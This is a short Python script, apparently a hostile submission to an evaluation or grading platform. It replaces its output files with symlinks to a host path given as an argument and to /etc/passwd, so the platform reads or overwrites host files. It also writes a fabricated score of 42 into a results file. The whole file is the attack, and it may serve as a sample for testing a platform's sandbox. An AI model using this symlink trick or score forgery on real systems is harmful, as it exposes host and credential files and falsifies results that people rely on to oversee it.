# Replaces its result files with symlinks to host paths, hoping the platform reads or overwrites them.
import os, sys
os.makedirs("results", exist_ok=True)
os.symlink(sys.argv[1], "results/results.json")
os.symlink("/etc/passwd", "results/passwd")
os.makedirs("results/real", exist_ok=True)
with open("results/real/score.txt", "w") as f:
    f.write("42\n")
print("planted", flush=True)
